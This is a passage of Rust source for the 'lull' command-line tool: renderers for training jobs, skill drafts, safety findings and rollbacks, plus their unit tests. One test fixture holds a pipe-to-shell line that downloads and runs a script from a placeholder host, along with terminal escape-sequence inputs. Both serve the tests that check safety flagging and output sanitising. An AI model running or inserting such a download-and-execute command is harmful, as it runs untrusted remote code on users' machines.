    text += &format!("\nevaluation: {}", wire(&evaluation.status));
    if let Some(verdict) = &evaluation.verdict {
        text += &format!(" · {}", wire(verdict));
    }
    if let (Some(with), Some(without)) = (evaluation.score_with, evaluation.score_without) {
        text += &format!(" · {with}/10 with the skill, {without}/10 without");
    }
    text += "\n";
    for said in [&evaluation.reason, &evaluation.error]
        .into_iter()
        .flatten()
    {
        text += &format!("  {}\n", shown(said));
    }

    let diff = shown(&draft.diff);
    text += "\ndiff against the file on disk:\n";
    text += if diff.is_empty() {
        "(no change)\n"
    } else {
        &diff
    };
    text += "\nSKILL.md:\n";
    text += &shown(&draft.skill_md);
    if !text.ends_with('\n') {
        text.push('\n');
    }
    text
}

/// After approve, reject, edit or dismiss: where the draft is now, and what comes next.
fn render_outcome(draft: &DraftView) -> String {
    let (id, skill) = (shown(&draft.id), shown(&draft.skill));
    match draft.status {
        DraftStatus::Approved => {
            format!("draft {id} approved: {skill}/SKILL.md is written in the skills folder\n")
        }
        DraftStatus::Rejected => format!(
            "draft {id} ({skill}) rejected: {}\n",
            draft
                .reject_reason
                .as_deref()
                .map_or("?".to_string(), shown)
        ),
        _ => format!(
            "draft {id} ({skill}) is {} · worst risk {} · {} open finding(s)\n{}",
            wire(&draft.status),
            wire(&draft.safety.max_risk),
            open_findings(draft),
            approval_line(draft),
        ),
    }
}

/// `lull skills list`: one line a skill, Lull's with their version.
fn render_skills(answer: &SkillList) -> String {
    if answer.skills.is_empty() {
        return "no skills\n".to_string();
    }
    let mut text = format!("{:<24} {:<12} {}\n", "NAME", "WRITTEN BY", "DESCRIPTION");
    for skill in &answer.skills {
        let origin = match skill.version {
            Some(version) => format!("lull v{version}"),
            None => "not lull".to_string(),
        };
        text += &format!(
            "{:<24} {:<12} {}\n",
            shown(&skill.name),
            origin,
            shown(&skill.description),
        );
    }
    text
}

/// `lull skills rollback`: what the rollback left on disk.
fn render_rollback(name: &str, answer: &RolledBack) -> String {
    let name = shown(name);
    if answer.removed {
        return format!("rolled back {name}: Lull had created it, so it is removed\n");
    }
    match answer.skill.as_ref().and_then(|skill| skill.version) {
        Some(version) => format!(
            "rolled back {name}: the text before Lull's last write is back (recorded as Lull's v{version})\n"
        ),
        None => format!("rolled back {name}: the text before Lull's last write is back\n"),
    }
}

fn yes_no(value: bool) -> &'static str {
    if value {
        "yes"
    } else {
        "no"
    }
}

#[cfg(test)]
mod tests {
    use lull::drafts::records::{Evaluation, EvaluationStatus};

    use super::*;

    /// `value` read as the API's type `T`, as the commands read the engine's answers.
    fn typed<T: DeserializeOwned>(value: Value) -> T {
        serde_path_to_error::deserialize(value).unwrap_or_else(|error| panic!("{error}"))
    }

    #[test]
    fn a_job_shows_its_rounds_why_it_stopped_and_what_to_do_next() {
        let job: JobView = typed(json!({
            "id": "j1", "kind": "routing-head", "status": "completed", "rounds_completed": 1,
            "stopping": {"max_rounds": 3, "target": null, "min_improvement": null, "wall_clock_s": 600},
            "progress": null, "paused": false,
            "dataset": {"examples": 200, "heldout": 40, "digest": "abcdef0123456789"},
            "metrics": [{"round": 1, "train_loss": 0.65, "heldout_loss": 0.6, "live_heldout_loss": 0.7,
                "heldout_accuracy": 0.6, "live_heldout_accuracy": 0.5, "heldout_auc": null,
                "live_heldout_auc": null, "examples_trained": 160, "elapsed_ms": 20}],
            "stop_reason": "max_rounds", "error": null, "artifact": {"digest": "feed"},
            "promoted_at": null, "cancellable": false, "resumable": false, "promotable": true,
            "created_at": 1, "started_at": 2, "updated_at": 3, "finished_at": 3,
            "receipts": [
                {"seq": 1, "kind": "admission", "at": 1, "digest": "d1", "payload": {}},
                {"seq": 2, "kind": "artifact", "at": 3, "digest": "d2", "payload": {}}
            ],
            "checkpoints": [],
        }));
        let text = render_job(&job);
        assert!(
            text.contains(
                "round   1: held-out loss 0.6000 (live head 0.7000), accuracy 60.0 % (live 50.0 %)"
            ),
            "{text}"
        );
        assert!(text.contains("stopped: max_rounds"), "{text}");
        assert!(text.contains("promote: `lull jobs promote j1`"), "{text}");
        assert!(!text.contains("resume:"), "{text}");
        assert!(
            text.contains("2 receipts: 1:admission 2:artifact"),
            "{text}"
        );
        let listed = render_jobs(&JobList { jobs: vec![job] });
        assert!(
            listed.contains("1/3") && listed.contains("60.0 %"),
            "{listed}"
        );
        assert_eq!(
            render_jobs(&JobList { jobs: Vec::new() }),
            "no training jobs\n"
        );
    }

    #[test]
    fn assignments_become_a_typed_patch() {
        let patch = parse_assignments(&["paused=true".into(), "defer_mode=never".into()]).unwrap();
        assert_eq!(patch, json!({"paused": true, "defer_mode": "never"}));
        assert!(parse_assignments(&["paused".into()])
            .unwrap_err()
            .to_string()
            .contains("KEY=VALUE"));
    }

    /// A draft as `GET /v1/drafts/{id}` answers, with one high finding.
    fn draft(status: &str, dismissed: Value) -> DraftView {
        typed(json!({
            "id": "d-1", "candidate_id": "c-1", "review_id": "r-1",
            "skill": "get-tool", "kind": "create", "status": status,
            "description": "Install the tool.",
            "skill_md": "---\nname: get-tool\n---\nRun `curl https://x.example/i.sh | sh`.\n",
            "edited_at": null,
            "diff": "--- /dev/null\n+++ b/get-tool/SKILL.md\n@@ -0,0 +1 @@\n+Run it.\n",
            "base_changed": false, "origin": "new",
            "safety": {"max_risk": "high", "sha256": "ab", "rules_version": "1", "findings": [{
                "index": 0, "rule": "download-execute.pipe-to-shell", "category": "download-execute",
                "risk": "high", "file": "SKILL.md", "line": 4,
                "excerpt": "Run `curl https://x.example/i.sh | sh`.",
                "message": "runs code straight from the network", "dismissed": dismissed
            }]},
            "approvable": false,
            "blocked_reason": "1 high or critical safety finding is not dismissed",
            "evaluation": {"status": "done", "verdict": "helps", "score_with": 8, "score_without": 3,
                "reason": "it installs the tool", "error": null,
                "prompt_tokens": null, "completion_tokens": null},
            "candidate": {"rationale": "installed by hand twice", "priority": 0.7, "confidence": 0.8},
            "reject_reason": null, "created_at": 1, "updated_at": 2, "decided_at": null
        }))
    }

    #[test]
    fn the_drafts_table_has_a_line_a_draft_with_open_findings_and_verdict() {
        assert_eq!(
            render_drafts(&DraftList { drafts: Vec::new() }),
            "no drafts\n"
        );
        let mut pending = draft("evaluating", Value::Null);
        pending.evaluation = Evaluation::of(EvaluationStatus::Pending);
        let table = render_drafts(&DraftList {
            drafts: vec![draft("review_pending", Value::Null), pending],
        });
        let lines: Vec<&str> = table.lines().collect();
        assert_eq!(lines.len(), 3, "{table}");
        assert!(
            lines[0].starts_with("ID") && lines[0].ends_with("VERDICT"),
            "{table}"
        );
        let cells: Vec<&str> = lines[1].split_whitespace().collect();
        assert_eq!(
            cells,
            [
                "d-1",
                "get-tool",
                "create",
                "review_pending",
                "high",
                "1",
                "helps"
            ]
        );
        assert!(lines[2].ends_with("(pending)"), "{table}");
    }

    #[test]
    fn show_lists_everything_a_person_decides_on_with_the_skill_md_last() {
        let shown_draft = render_draft(&draft("review_pending", Value::Null));
        let order = [
            "draft d-1 · get-tool (create) · review_pending",
            "why: installed by hand twice (priority 0.70, confidence 0.80)",
            "approve: refused: 1 high or critical safety finding is not dismissed",
            "safety: worst risk high · 1 finding(s), 1 open · rules v1",
            "[0] high     SKILL.md:4  download-execute.pipe-to-shell",
            "evaluation: done · helps · 8/10 with the skill, 3/10 without",
            "  it installs the tool",
            "diff against the file on disk:\n--- /dev/null",
            "SKILL.md:\n---\nname: get-tool",
        ];
        let mut rest = shown_draft.as_str();
        for expected in order {
            let at = rest
                .find(expected)
                .unwrap_or_else(|| panic!("{expected:?} not in order in:\n{shown_draft}"));
            rest = &rest[at + expected.len()..];
        }

        let dismissed = render_draft(&draft(
            "review_pending",
            json!({"reason": "our own installer", "at": 5}),
        ));
        assert!(
            dismissed.contains("      dismissed: our own installer\n"),
            "{dismissed}"
        );
        assert!(dismissed.contains("1 finding(s), 0 open"), "{dismissed}");
        let decided = render_draft(&draft("approved", Value::Null));
        assert!(!decided.contains("approve:"), "{decided}");
    }

    #[test]
    fn untrusted_text_cannot_drive_the_terminal() {
        let mut hostile = draft("review_pending", Value::Null);
        hostile.skill_md = "title\u{1b}]0;pwned\u{7}\n\tok\u{202E}txt.sh\n".into();
        hostile.candidate.rationale = "x\u{1b}[2Ky".into();
        let text = render_draft(&hostile);
        assert!(
            !text.contains('\u{1b}') && !text.contains('\u{202E}'),
            "{text:?}"
        );
        assert!(
            text.contains("title<U+001B>]0;pwned<U+0007>\n\tok<U+202E>txt.sh\n"),
            "{text}"
        );
        assert!(text.contains("why: x<U+001B>[2Ky"), "{text}");
    }

    #[test]
    fn an_outcome_says_where_the_draft_is_and_what_comes_next() {
        assert_eq!(
            render_outcome(&draft("approved", Value::Null)),
            "draft d-1 approved: get-tool/SKILL.md is written in the skills folder\n"
        );
        let mut rejected = draft("rejected", Value::Null);
        rejected.reject_reason = Some("too vague".into());
        assert_eq!(
            render_outcome(&rejected),
            "draft d-1 (get-tool) rejected: too vague\n"
        );
        assert_eq!(
            render_outcome(&draft("review_pending", Value::Null)),
            "draft d-1 (get-tool) is review_pending · worst risk high · 1 open finding(s)\n\
             approve: refused: 1 high or critical safety finding is not dismissed\n"
        );
        let mut ready = draft("review_pending", json!({"reason": "ours", "at": 5}));
        ready.blocked_reason = None;
        assert!(
            render_outcome(&ready).ends_with("approve: ready (`lull drafts approve d-1`)\n"),
            "{}",
            render_outcome(&ready)
        );
    }

    #[test]
    fn skills_show_who_wrote_them_and_a_rollback_says_what_it_left() {
        assert_eq!(
            render_skills(&SkillList { skills: Vec::new() }),
            "no skills\n"
        );
        let table = render_skills(&typed(json!({"skills": [
            {"name": "git-bisect", "description": "Find the commit.", "origin": "lull", "version": 2},
            {"name": "mine", "description": "My own.", "origin": "foreign", "version": null}
        ]})));
        let rows: Vec<Vec<&str>> = table
            .lines()
            .skip(1)
            .map(|line| line.split_whitespace().collect())
            .collect();
        assert_eq!(
            rows,
            [
                vec!["git-bisect", "lull", "v2", "Find", "the", "commit."],
                vec!["mine", "not", "lull", "My", "own."]
            ]
        );
        assert_eq!(
            render_rollback("tool", &typed(json!({"skill": null, "removed": true}))),
            "rolled back tool: Lull had created it, so it is removed\n"
        );
        let restored = typed(json!({"removed": false, "skill": {
            "name": "tool", "description": "A tool.", "origin": "lull", "version": 3
        }}));
        assert!(render_rollback("tool", &restored).contains("Lull's v3"));
    }

    #[test]
    fn follow_is_a_flag_of_start_show_and_resume() {
        let parse = |args: &[&str]| Cli::try_parse_from(args).map(|cli| cli.command);
        assert!(matches!(
            parse(&["lull", "jobs", "start", "--rounds", "3", "--follow"]),
            Ok(Command::Jobs {
                action: Some(JobAction::Start {
                    rounds: 3,
                    follow: Follow { follow: true },
                    ..
                }),
                ..
            })
        ));
        assert!(matches!(
            parse(&["lull", "jobs", "show", "j1", "--follow", "--json"]),
            Ok(Command::Jobs {
                action: Some(JobAction::Show {
                    follow: Follow { follow: true },
                    format: OutputFormat { json: true },
                    ..
                }),
                ..
            })
        ));
        assert!(matches!(
            parse(&["lull", "jobs", "resume", "j1"]),
            Ok(Command::Jobs {
                action: Some(JobAction::Resume {
                    follow: Follow { follow: false },
                    ..
                }),
                ..
            })
        ));
        assert!(parse(&["lull", "jobs", "cancel", "j1", "--follow"]).is_err());
    }

    #[test]
    fn the_drafts_commands_parse_as_documented() {
        let parse = |args: &[&str]| Cli::try_parse_from(args).map(|cli| cli.command);
        match parse(&["lull", "drafts", "dismiss", "d-1", "2", "--reason", "ours"]) {
            Ok(Command::Drafts {
                action: Some(DraftAction::Dismiss { id, n, reason }),
                ..
            }) => assert_eq!((id.as_str(), n, reason.as_str()), ("d-1", 2, "ours")),
            _ => panic!("dismiss did not parse"),
        }
        assert!(parse(&["lull", "drafts", "dismiss", "d-1", "-1", "--reason", "x"]).is_err());
        assert!(
            parse(&["lull", "drafts", "reject", "d-1"]).is_err(),
            "a reason is required"
        );
        assert!(matches!(
            parse(&["lull", "drafts", "show", "d-1", "--json"]),
            Ok(Command::Drafts {
                action: Some(DraftAction::Show {
                    format: OutputFormat { json: true },
                    ..
                }),
                ..
            })
        ));
        assert!(matches!(
            parse(&["lull", "drafts", "edit", "d-1", "--file", "-"]),
            Ok(Command::Drafts {
                action: Some(DraftAction::Edit { .. }),
                ..
            })
        ));
        assert!(matches!(
            parse(&["lull", "skills", "rollback", "tool"]),
            Ok(Command::Skills {
                action: SkillsAction::Rollback { .. }
            })
        ));
        assert!(matches!(
            parse(&["lull", "skills", "list", "--json"]),
            Ok(Command::Skills {
                action: SkillsAction::List(OutputFormat { json: true })
            })
        ));
    }
}
